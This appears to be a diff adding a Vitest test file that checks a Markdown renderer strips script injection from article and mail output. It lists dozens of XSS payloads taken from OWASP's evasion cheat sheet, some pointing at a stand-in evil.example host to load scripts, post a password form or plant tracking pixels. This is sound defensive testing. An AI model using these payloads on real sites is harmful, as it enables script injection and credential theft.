@@ -1,0 +1,175 @@
+import { describe, expect, it } from 'vitest';
+import {
+  addressName,
+  plainWords,
+  readingMinutes,
+  renderMailMarkdown,
+  renderMarkdown,
+} from './render-markdown.ts';
+
+/**
+ * Ways to smuggle a script through Markdown and HTML: from OWASP's XSS filter evasion cheat sheet, the issues of
+ * Markdown libraries, and what browsers forgive (entities, control characters, case, broken tags).
+ */
+const attacks: readonly string[] = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)" />',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="//evil.example/x.swf">',
+  '<form action="//evil.example"><input name=password><button>Go</button></form>',
+  '<body onload=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" \u0001javascript:alert(1)">x</a>',
+  '<style>*{background:url(javascript:alert(1))}</style>',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href="//evil.example/">',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](java&#10;script:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))',
+  '[x](vbscript:msgbox(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x](//evil.example/steal)',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '<javascript:alert(1)>',
+  '![x](javascript:alert(1))',
+  '![x](https://evil.example/pixel.gif)',
+  '![x](//evil.example/pixel.gif)',
+  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  '![x](/files/images/marketing/../../user_pictures/u/PFP)',
+  '![x](/files/images/marketing/a.png?x="onerror="alert(1))',
+  '![x" onerror="alert(1)](/files/images/marketing/a.webp)',
+  '![x](/files/images/marketing/a.webp "t\\" onerror=\\"alert(1)")',
+  '[x](/a "t\\" onmouseover=\\"alert(1)")',
+  '`<script>alert(1)</script>`',
+  '```html"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
+  '# <img src=x onerror=alert(1)>',
+  '# x" onclick="alert(1)',
+  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
+  '<p style="position:fixed;inset:0">over everything</p>',
+  '<p id="root">clobbered</p>',
+  '<!-- --!><script>alert(1)</script> -->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '---\ntitle: <script>alert(1)</script>\n---\n\ntext',
+  '---\nlayout: "><img src=x onerror=alert(1)>\n---',
+  '\u0000<script>alert(1)</script>',
+];
+
+/** What a browser would act on, read from the tags that are really there: escaped text is no tag. */
+function dangersIn(html: string): string[] {
+  const tags = html.match(/<[^>]*>/g) ?? [];
+  return tags.filter((tag) => {
+    const name = /^<\/?([a-z0-9]+)/i.exec(tag)?.[1]?.toLowerCase() ?? '';
+    const known =
+      /^(h[234]|p|a|em|strong|del|code|pre|blockquote|br|hr|ul|ol|li|img|table|thead|tbody|tr|th|td)$/;
+    if (!known.test(name)) return true;
+    const attributes = [...tag.matchAll(/\s([a-z:-]+)="([^"]*)"/gi)];
+    return attributes.some(([, attribute = '', value = '']) => {
+      if (/^on|^(style|srcset|xlink:href|formaction)$/i.test(attribute)) return true;
+      if (attribute === 'src') return !/^\/files\/images\/marketing\/[\w-][\w.-]*$/.test(value);
+      if (attribute === 'id') return !value.startsWith('part-');
+      if (attribute !== 'href') return false;
+      const meant = value
+        .replace(/&#?\w+;/g, '')
+        .replaceAll(/[\s\p{Cc}]/gu, '')
+        .toLowerCase();
+      return /^(javascript|vbscript|data):|^\/\//.test(meant);
+    });
+  });
+}
+
+describe('PUB-4: Markdown that somebody else wrote', () => {
+  it.each(attacks)('runs nothing in a page: %j', (attack) => {
+    for (const source of [attack, `text\n\n${attack}\n\ntext`, `> - ${attack}`, `**${attack}**`]) {
+      expect(dangersIn(renderMarkdown(source))).toEqual([]);
+    }
+  });
+
+  it.each(attacks)('runs nothing in a mail: %j', (attack) => {
+    const html = renderMailMarkdown(attack, 'https://auspex.example');
+    const unstyled = html
+      .replace(/ style="[^"]*"/g, '')
+      .replaceAll('https://auspex.example/files/', '/files/');
+    expect(dangersIn(unstyled)).toEqual([]);
+    expect(html).not.toMatch(/<[^>]* style="[^"]*(?:position|url\()/);
+  });
+
+  it('is noticed by these checks when it is not cleaned', () => {
+    expect(dangersIn('<p onclick="x">')).toHaveLength(1);
+    expect(dangersIn('<a href="java&#10;script:alert(1)">')).toHaveLength(1);
+    expect(dangersIn('<img src="https://evil.example/x.png">')).toHaveLength(1);
+    expect(dangersIn('<script>')).toHaveLength(1);
+  });
+});
+
+describe('an article in Markdown', () => {
+  it('keeps what prose needs: headings with places to link to, lists, tables, quotes, code', () => {
+    const html = renderMarkdown(
+      '# Top\n\n## L’été 2026\n\n*a* **b** ~~c~~ `d`\n\n- e\n\n3. f\n\n> g\n\n| h | i |\n|---|--:|\n| j | k |\n\n```\nl < m\n```',
+    );
+    expect(html).toContain('<h2 id="part-top">Top</h2>');
+    expect(html).toContain('<h2 id="part-l-ete-2026">L’été 2026</h2>');
+    expect(html).toContain('<em>a</em> <strong>b</strong> <del>c</del> <code>d</code>');
+    expect(html).toContain('<ol start="3">');
+    expect(html).toContain('<blockquote>');
+    expect(html).toContain('<td align="right">k</td>');
+    expect(html).toContain('l &lt; m');
+  });
+
+  it('shows pictures that were uploaded here and no others', () => {
+    expect(renderMarkdown('![A chart](/files/images/marketing/chart-1.webp)')).toBe(
+      '<p><img src="/files/images/marketing/chart-1.webp" alt="A chart" loading="lazy" /></p>',
+    );
+    expect(renderMarkdown('![](https://example.org/x.png)')).not.toContain('img');
+  });
+
+  it('tells another site nothing, and promises it no rank', () => {
+    expect(renderMarkdown('[x](https://example.org/)')).toContain('rel="noopener nofollow"');
+    expect(renderMarkdown('[x](/trade-history)')).toBe('<p><a href="/trade-history">x</a></p>');
+  });
+
+  it('shows HTML as the text it is', () => {
+    expect(renderMarkdown('<b>bold</b>')).toBe('<p>&lt;b&gt;bold&lt;/b&gt;</p>');
+  });
+
+  it('in a mail has complete addresses', () => {
+    const html = renderMailMarkdown(
+      '[x](/plans) ![y](/files/images/marketing/y.webp)',
+      'https://auspex.example',
+    );
+    expect(html).toContain('href="https://auspex.example/plans"');
+    expect(html).toContain('src="https://auspex.example/files/images/marketing/y.webp"');
+  });
+
+  it('is searched and measured without its marks', () => {
+    expect(plainWords('<h2>One</h2><p>two <em>three</em></p>')).toBe('One two three');
+    expect(readingMinutes('word '.repeat(1100))).toBe(5);
+    expect(readingMinutes('')).toBe(1);
+  });
+
+  it.each([
+    ['How to check us, in 10 minutes!', 'how-to-check-us-in-10-minutes'],
+    ['  L’été — déjà  ', 'l-ete-deja'],
+    ['../../etc/passwd', 'etc-passwd'],
+    ['日本語', ''],
+  ])('has an address made of its title: %s', (title, name) => expect(addressName(title, 100)).toBe(name));
+
+  it('has an address that ends with a whole word', () => {
+    expect(addressName('one two three', 9)).toBe('one-two');
+    expect(addressName('x'.repeat(300), 20)).toHaveLength(20);
+  });
+});
